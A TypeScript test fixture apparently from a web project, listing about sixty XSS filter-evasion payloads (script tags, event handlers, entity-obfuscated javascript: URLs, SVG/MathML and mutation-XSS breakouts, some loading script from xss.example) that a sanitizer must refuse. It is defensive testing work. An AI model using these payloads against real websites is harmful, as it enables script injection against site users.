/**
 * XSS payloads in the style of the OWASP XSS filter evasion cheat sheet. Every one
 * must be refused by `sanitizeBody`; the HTTP integration tests post them too.
 */

/** One payload and the rule that must be among its refusals. */
export interface XssPayload {
  /** What the payload tries, for test names. */
  name: string;
  html: string;
  /** A rule `sanitizeBody` must report for it (others may be reported as well). */
  rule: string;
}

const JS = "html.no-script-url";
const HANDLER = "html.no-event-handler";

/** Payloads every body check must refuse. */
export const XSS_PAYLOADS: readonly XssPayload[] = [
  // Script elements.
  { name: "plain script", html: "<script>alert(1)</script>", rule: "html.no-script" },
  {
    name: "upper-case external script",
    html: '<SCRIPT SRC="https://xss.example/xss.js"></SCRIPT>',
    rule: "html.no-script",
  },
  { name: "mixed-case script", html: "<ScRiPt>alert(1)</sCrIpT>", rule: "html.no-script" },
  {
    name: "script with a slash before attributes",
    html: '<script/xss src="https://xss.example/xss.js"></script>',
    rule: "html.no-script",
  },
  {
    name: "extra open angle bracket",
    html: '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    rule: "html.no-script",
  },
  {
    name: "malformed img followed by script",
    html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    rule: "html.no-script",
  },
  {
    name: "script between ordinary paragraphs",
    html: '<p>通知</p><script type="module">import("https://xss.example/m.js")</script><p>完</p>',
    rule: "html.no-script",
  },
  // Event handlers.
  { name: "img onerror", html: "<img src=x onerror=alert(1)>", rule: HANDLER },
  { name: "upper-case ONERROR", html: '<IMG SRC=# ONERROR="alert(1)">', rule: HANDLER },
  { name: "handler after a slash", html: '<img src="x"/onerror="alert(1)">', rule: HANDLER },
  {
    name: "entity-encoded handler body",
    html: '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    rule: HANDLER,
  },
  { name: "body onload", html: "<body onload=alert(1)>", rule: HANDLER },
  { name: "details ontoggle", html: "<details open ontoggle=alert(1)>", rule: HANDLER },
  { name: "marquee onstart", html: "<marquee onstart=alert(1)>XSS</marquee>", rule: HANDLER },
  {
    name: "handler on an allowed div",
    html: '<div onmouseover="alert(1)">悬停</div>',
    rule: HANDLER,
  },
  {
    name: "handler on an otherwise fine link",
    html: '<a href="https://www.customs.gov.cn/" onclick="alert(1)">海关</a>',
    rule: HANDLER,
  },
  {
    name: "eval of own src",
    html: "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    rule: HANDLER,
  },
  // javascript: and vbscript: URLs, with the usual obfuscations.
  { name: "javascript link", html: '<a href="javascript:alert(1)">x</a>', rule: JS },
  { name: "mixed-case scheme", html: '<a href="JaVaScRiPt:alert(1)">x</a>', rule: JS },
  { name: "hex entity in scheme", html: '<a href="jav&#x61;script:alert(1)">x</a>', rule: JS },
  { name: "encoded tab in scheme", html: '<a href="jav&#x09;ascript:alert(1)">x</a>', rule: JS },
  { name: "raw tab in scheme", html: '<a href="java\tscript:alert(1)">x</a>', rule: JS },
  { name: "encoded newline in img src", html: '<IMG SRC="jav&#x0A;ascript:alert(1);">', rule: JS },
  { name: "carriage return in scheme", html: '<IMG SRC="jav&#x0D;ascript:alert(1);">', rule: JS },
  { name: "leading space, upper case", html: '<a href=" JAVASCRIPT:alert(1)">x</a>', rule: JS },
  {
    name: "leading control character",
    html: '<a href="&#14;  javascript:alert(1)">x</a>',
    rule: JS,
  },
  {
    name: "decimal entities",
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    rule: JS,
  },
  {
    name: "padded decimal entities without semicolons",
    html: '<IMG SRC="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
    rule: JS,
  },
  {
    name: "hex entities without semicolons",
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    rule: JS,
  },
  { name: "named entity colon", html: '<a href="javascript&colon;alert(1)">x</a>', rule: JS },
  {
    name: "named tab and newline",
    html: '<a href="java&Tab;script&NewLine;:alert(1)">x</a>',
    rule: JS,
  },
  { name: "comment-style payload", html: '<a href="javascript://%0Aalert(1)">x</a>', rule: JS },
  { name: "vbscript link", html: '<a href="vbscript:msgbox(1)">x</a>', rule: JS },
  { name: "video poster", html: '<video poster="javascript:alert(1)"></video>', rule: JS },
  { name: "table background", html: '<table background="javascript:alert(1)"></table>', rule: JS },
  { name: "srcset candidate", html: '<img srcset="a.png 1x, javascript:alert(1) 2x">', rule: JS },
  // data: URLs.
  {
    name: "data:text/html link",
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    rule: "html.no-data-url",
  },
  {
    name: "encoded data: scheme in img src",
    html: '<img src="&#x64;ata:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
    rule: "html.no-data-url",
  },
  // SVG and MathML.
  { name: "svg onload", html: "<svg onload=alert(1)>", rule: "html.no-svg-math" },
  { name: "svg slash onload", html: "<svg/onload=alert(1)>", rule: HANDLER },
  {
    name: "script inside svg",
    html: "<svg><script>alert(1)</script></svg>",
    rule: "html.no-script",
  },
  {
    name: "svg xlink:href",
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    rule: JS,
  },
  {
    name: "svg animate onbegin",
    html: "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    rule: HANDLER,
  },
  {
    name: "math namespace confusion",
    html: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    rule: "html.no-svg-math",
  },
  { name: "math href", html: '<math href="javascript:alert(1)">CLICK</math>', rule: JS },
  // Frames and plug-ins.
  {
    name: "iframe",
    html: '<iframe src="https://xss.example/"></iframe>',
    rule: "html.no-embedded-frame",
  },
  {
    name: "iframe srcdoc",
    html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    rule: "html.no-srcdoc",
  },
  {
    name: "frameset",
    html: '<frameset><frame src="javascript:alert(1)"></frameset>',
    rule: "html.no-embedded-frame",
  },
  { name: "object data", html: '<object data="javascript:alert(1)"></object>', rule: JS },
  {
    name: "embed",
    html: '<embed src="https://xss.example/xss.swf" allowscriptaccess="always">',
    rule: "html.no-embedded-object",
  },
  { name: "applet", html: '<applet code="Xss.class"></applet>', rule: "html.no-embedded-object" },
  // Document metadata and styles.
  {
    name: "meta refresh",
    html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    rule: "html.no-meta",
  },
  { name: "base href", html: '<BASE HREF="javascript:alert(1);//">', rule: "html.no-base" },
  {
    name: "stylesheet link",
    html: '<link rel="stylesheet" href="https://xss.example/xss.css">',
    rule: "html.no-link",
  },
  {
    name: "style @import",
    html: '<style>@import "https://xss.example/xss.css";</style>',
    rule: "html.no-style-element",
  },
  {
    name: "style url(javascript:)",
    html: '<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>XSS</li></ul>',
    rule: "html.no-style-element",
  },
  // Forms.
  {
    name: "form action",
    html: '<form action="javascript:alert(1)"><input type="submit"></form>',
    rule: "html.no-form",
  },
  {
    name: "button formaction",
    html: '<button formaction="javascript:alert(1)">X</button>',
    rule: JS,
  },
  { name: "autofocus input", html: "<input onfocus=alert(1) autofocus>", rule: "html.no-form" },
  { name: "autofocus textarea", html: "<textarea autofocus onfocus=alert(1)>", rule: HANDLER },
  { name: "isindex", html: "<isindex type=image src=1 onerror=alert(1)>", rule: "html.no-form" },
  // Parser differentials (mutation XSS).
  {
    name: "noscript title breakout",
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    rule: "html.no-raw-text-element",
  },
  {
    name: "xmp title breakout",
    html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    rule: HANDLER,
  },
  {
    name: "empty comment hides nothing",
    html: "<!--><img src=x onerror=alert(1)>-->",
    rule: HANDLER,
  },
];
